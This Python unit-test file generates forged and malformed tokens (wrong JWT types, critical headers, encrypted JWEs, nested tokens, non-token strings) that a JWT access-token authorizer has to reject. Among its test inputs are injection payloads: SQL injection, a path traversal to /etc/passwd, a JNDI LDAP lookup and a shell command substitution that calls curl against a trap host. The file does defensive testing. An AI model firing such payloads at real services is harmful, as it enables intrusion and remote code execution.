"""Tokens of other kinds: for logins, for logouts, encrypted, nested, or no JWTs at all."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.unit.authorizer.key_builder import base64url
from tests.unit.authorizer.token_builder import ABSENT, to_json

if TYPE_CHECKING:
    from tests.unit.authorizer.forgeries.scene import Forgeries, Scene

TYPES = [
    *(
        "JWT",
        "jwt",
        "id+jwt",
        "logout+jwt",
        "rt+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "entity-statement+jwt",
        "JWS",
        "JOSE",
    ),
    *(
        "at+jwt ",
        " at+jwt",
        "at+jwt\0",
        "at jwt",
        "at+jwt+json",
        "at+jwt;v=1",
        "text/at+jwt",
        "application/at",
        "",
        "at",
    ),
    *("at\uff0bjwt", "\u0430t+jwt", "application/application/at+jwt", "application/jwt", "at+jwts", "jwt+at"),
]
NOT_TYPES: dict[str, Any] = {
    "absent": ABSENT,
    "null": None,
    "7": 7,
    "true": True,
    "a list": ["at+jwt"],
    "an object": {},
}
# RFC 7515, section 4.1.11, and what would change the bytes that are signed.
CRITICAL: dict[str, dict[str, Any]] = {
    "crit of exp": {"crit": ["exp"], "exp": 1},
    "crit of nothing known": {"crit": ["http://example.invalid/UNDEFINED"], "http://example.invalid/UNDEFINED": True},
    "crit empty": {"crit": []},
    "crit null": {"crit": None},
    "crit of crit": {"crit": ["crit"]},
    "crit of alg": {"crit": ["alg"]},
    "b64 false": {"b64": False, "crit": ["b64"]},
    "b64 false, not critical": {"b64": False},
    "b64 true": {"b64": True},
    "zip": {"zip": "DEF"},
    "zip null": {"zip": None},
}


def kinds(scene: Scene) -> Forgeries:
    """Truly signed by the issuer, but never meant as an access token."""
    backchannel: dict[str, Any] = {"http://schemas.openid.net/event/backchannel-logout": {}}
    return {
        **{f"type {kind!a}": scene.headed(typ=kind) for kind in TYPES},
        **{f"type is {name}": scene.headed(typ=value) for name, value in NOT_TYPES.items()},
        **{name: scene.headed(**header) for name, header in CRITICAL.items()},
        "an ID token": _of_type(scene, "JWT", nonce="n", auth_time=scene.now, aud="client-1", scope=ABSENT),
        "an ID token for us": _of_type(scene, "JWT", nonce="n", at_hash="x", scope=ABSENT),
        "a logout token": _of_type(scene, "logout+jwt", events=backchannel, sid="1", scope=ABSENT),
        "a refresh token": _of_type(scene, "rt+jwt", scope="offline_access"),
        "a client's assertion": _of_type(scene, "JWT", iss="client-1", sub="client-1", jti="1"),
        "a proof of possession": _of_type(scene, "dpop+jwt", htm="POST", htu="/v1/uploads"),
        "a security event": _of_type(scene, "secevent+jwt", events={"x": {}}),
        "a nested token": scene.sign(to_json({**scene.header(), "cty": "JWT"}), scene.honest().encode()),
        "a nested token as text": scene.sign(to_json(scene.header()), json.dumps(scene.honest()).encode()),
        "a nested token in a claim": scene.sign(to_json(scene.header()), to_json({"jwt": scene.honest()})),
    }


def _of_type(scene: Scene, kind: str, **claims: Any) -> str:
    members = {name: value for name, value in {**scene.claims(), **claims}.items() if value is not ABSENT}
    return scene.sign(to_json({**scene.header(), "typ": kind}), to_json(members))


def encrypted(scene: Scene) -> Forgeries:
    """RFC 7516: five segments, and keys to be agreed upon, some at great expense."""
    point = {"kty": "EC", "crv": "P-256", "x": base64url(bytes(32)), "y": base64url(bytes(32))}
    headers: dict[str, dict[str, Any]] = {
        "dir": {"alg": "dir", "enc": "A256GCM"},
        "RSA1_5": {"alg": "RSA1_5", "enc": "A128CBC-HS256"},
        "RSA-OAEP": {"alg": "RSA-OAEP", "enc": "A256GCM"},
        "ECDH-ES by an invalid point": {"alg": "ECDH-ES", "enc": "A256GCM", "epk": point},
        "PBES2 of a billion rounds": {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 10**9, "p2s": "AAAA"},
        "A128KW": {"alg": "A128KW", "enc": "A128GCM"},
        "a bomb": {"alg": "dir", "enc": "A256GCM", "zip": "DEF"},
        "a nested token": {"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT"},
        "none": {"alg": "none", "enc": "none"},
        "an honest header": {},
    }
    payload = base64url(to_json(scene.claims()))
    return {
        **{
            f"JWE {name}": ".".join(
                [_jwe_header(scene, header), "", base64url(bytes(12)), payload, base64url(bytes(16))]
            )
            for name, header in headers.items()
        },
        **{
            f"JWE header on a JWS, {name}": scene.headed(**header)
            for name, header in headers.items()
            if header and header["alg"] != "none"
        },
        "JWE of four segments": f"{_jwe_header(scene, headers['dir'])}..{payload}.{payload}",
        "JWE of five empty segments": "....",
        "JWE of six segments": f"{_jwe_header(scene, headers['dir'])}.....",
    }


def _jwe_header(scene: Scene, header: dict[str, Any]) -> str:
    return base64url(to_json({**scene.header(), **header}))


def no_tokens(scene: Scene) -> Forgeries:
    """What people and programs send by mistake, or to see what happens."""
    flat = {"protected": "e30", "payload": "e30", "signature": "e30"}
    return {
        "null": "null",
        "undefined": "undefined",
        "None": "None",
        "an object": "[object Object]",
        "NaN": "NaN",
        "a placeholder": "<token>",
        "a variable": "$PORTSIDE_TOKEN",
        "a template's variable": "{{access_token}}",
        "a UUID": "2f1c8a4e-5b0d-4a7e-9c35-0d6f2b7e41aa",
        "hexadecimal": "deadbeef" * 8,
        "an AWS key": "AKIAIOSFODNN7EXAMPLE",
        "a GitHub token": "ghp_" + "x" * 36,
        "Basic credentials": "dXNlcjpwYXNzd29yZA==",
        "the JSON form": json.dumps(flat),
        "the general JSON form": json.dumps({"payload": "e30", "signatures": [flat]}),
        "the claims in the clear": json.dumps(scene.claims()),
        "PASETO": "v4.public." + base64url(to_json(scene.claims())),
        "a macaroon": "MDAxY2xvY2F0aW9uIGxvZ2lu",
        "SAML": base64url(b"<Assertion/>"),
        "XML": "<Assertion/>",
        "SQL": "' OR 1=1 --",
        "a path": "../../etc/passwd",
        "an address": f"http://{scene.trap}/token",
        "JNDI": f"${{jndi:ldap://{scene.trap}/a}}",
        "a shell": "$(curl " + scene.trap + ")",
        "emoji": "\U0001f511",
        "a lone surrogate": "\ud800",
        "a null byte": "\0",
        "a star": "*",
        "admin": "admin",
        "SigV4": "AWS4-HMAC-SHA256 Credential=AKIA/20261123/us-east-1/execute-api/aws4_request",
    }
